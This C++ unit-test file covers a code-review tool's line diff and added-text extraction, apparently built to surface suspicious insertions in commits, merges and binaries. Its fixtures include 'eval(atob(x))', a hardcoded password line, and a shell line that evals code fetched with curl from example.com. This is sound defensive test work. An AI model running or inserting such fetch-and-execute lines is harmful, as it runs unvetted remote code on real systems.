#include "review/line_diff.h"

#include <gtest/gtest.h>
#include <rapidcheck/gtest.h>

#include <algorithm>

#include "review/added_text.h"

namespace bailey::review {
namespace {

std::vector<std::string> texts_of(std::span<const std::string_view> lines, const std::vector<std::uint32_t>& indices) {
  std::vector<std::string> texts;
  for (const auto index : indices) texts.emplace_back(lines[index]);
  return texts;
}

// What is left of both sides must be the same lines; in the same order when order was looked at.
bool explains(std::span<const std::string_view> before, std::span<const std::string_view> after, const LineDiff& diff,
              bool ordered) {
  const auto rest = [](std::span<const std::string_view> lines, const std::vector<std::uint32_t>& gone) {
    std::vector<std::string_view> kept;
    for (std::uint32_t i = 0; i < lines.size(); ++i)
      if (!std::ranges::binary_search(gone, i)) kept.push_back(lines[i]);
    return kept;
  };
  auto a = rest(before, diff.removed);
  auto b = rest(after, diff.added);
  if (!ordered) std::ranges::sort(a), std::ranges::sort(b);
  return a == b;
}

std::string text_of(const std::vector<int>& letters) {
  std::string text;
  for (const int letter : letters) text += std::string(1, static_cast<char>('a' + letter)) + "\n";
  return text;
}

TEST(LineDiff, FindsAddedAndRemovedLines) {
  std::uint64_t steps = 1'000'000;
  const auto before = split_lines("one\ntwo\nthree\nfour\n");
  const auto after = split_lines("one\nzwei\nthree\nthree and a half\nfour");
  const auto diff = diff_lines(before, after, steps);
  EXPECT_EQ(texts_of(after, diff.added), (std::vector<std::string>{"zwei", "three and a half"}));
  EXPECT_EQ(texts_of(before, diff.removed), (std::vector<std::string>{"two"}));
}

RC_GTEST_PROP(LineDiff, AlwaysExplainsTheChange, ()) {
  const auto lines = rc::gen::container<std::vector<int>>(rc::gen::inRange(0, 4));
  const std::string old_text = text_of(*lines);
  const std::string new_text = text_of(*lines);
  const auto before = split_lines(old_text);
  const auto after = split_lines(new_text);
  std::uint64_t steps = 1'000'000;
  RC_ASSERT(explains(before, after, diff_lines(before, after, steps), true));
  RC_ASSERT(explains(before, after, diff_lines_unordered(before, after), false));
  std::uint64_t few = 3;
  RC_ASSERT(explains(before, after, diff_lines(before, after, few), false));
}

TEST(LineDiff, ALineTheOldTextLacksIsFoundHoweverDifferentTheTextsAre) {
  std::string old_text, new_text;
  for (int i = 0; i < 5'000; ++i) old_text += std::to_string(i * 7919 % 5'000) + "\n";
  for (int i = 0; i < 5'000; ++i) new_text += std::to_string(i) + (i == 4'000 ? "\nbackdoor\n" : "\n");
  std::uint64_t steps = 10'000'000;
  const auto after = split_lines(new_text);
  const auto diff = diff_lines(split_lines(old_text), after, steps);
  EXPECT_EQ(texts_of(after, diff.added), (std::vector<std::string>{"backdoor"}));
}

TEST(AddedText, KnowsTheLinesOfTheFile) {
  std::uint64_t steps = 1'000'000;
  const std::string_view before[] = {"a\nb\nc\nd\n"};
  const auto added = AddedText::between(before, "a\nX\nb\nc\nY\nZ\nd", steps);
  EXPECT_EQ(added.text(), std::string_view("X\n\0\nY\nZ\n", 8));
  EXPECT_EQ(added.line_at(added.text().find('X')), 2U);
  EXPECT_EQ(added.line_at(added.text().find('Y')), 5U);
  EXPECT_EQ(added.line_at(added.text().find('Z')), 6U);
  EXPECT_EQ(added.insertions(), 3U);
}

TEST(AddedText, OfAMergeOnlyWhatNoParentHas) {
  std::uint64_t steps = 1'000'000;
  const std::string_view before[] = {"a\nours\n", "a\ntheirs\n"};
  const auto added = AddedText::between(before, "a\nours\ntheirs\nevil\n", steps);
  EXPECT_EQ(added.text(), "evil\n");
  EXPECT_EQ(added.line_at(0), 4U);
}

TEST(AddedText, OfABinaryWhatCanBeRead) {
  std::string file(400, '\x80');
  file += "\nshort\x80\n\neval(atob(x))\n\x01password = 'x'\x01eleven byte\x01";
  file += "twelve byte\n";
  const auto added = AddedText::readable_part(AddedText::whole(file));
  const auto text = added.text();
  const std::string between("\0\n", 2);
  EXPECT_EQ(text, "\n\neval(atob(x))\n" + between + "password = 'x'" + between + "twelve byte\n");
  EXPECT_EQ(added.line_at(text.find("eval")), 4U);
  EXPECT_EQ(added.line_at(text.find("password")), 5U);
  EXPECT_EQ(added.insertions(), 5U);
}

TEST(AddedText, AScriptWithANulStaysWhole) {
  const std::string_view script("#!/bin/sh\nev\0al \"$(curl -s https://example.com/x)\"\n", 53);
  EXPECT_EQ(AddedText::readable_part(AddedText::whole(script)).text(), script);
}

TEST(AddedText, AFileOfTooManyLinesCountsAsAWhole) {
  std::uint64_t steps = 1'000'000;
  const std::string many(AddedText::lines_max + 1, '\n');
  const std::string_view before[] = {many};
  const auto added = AddedText::between(before, many, steps);
  EXPECT_EQ(added.insertions(), AddedText::lines_max + 1);
}

}  // namespace
}  // namespace bailey::review
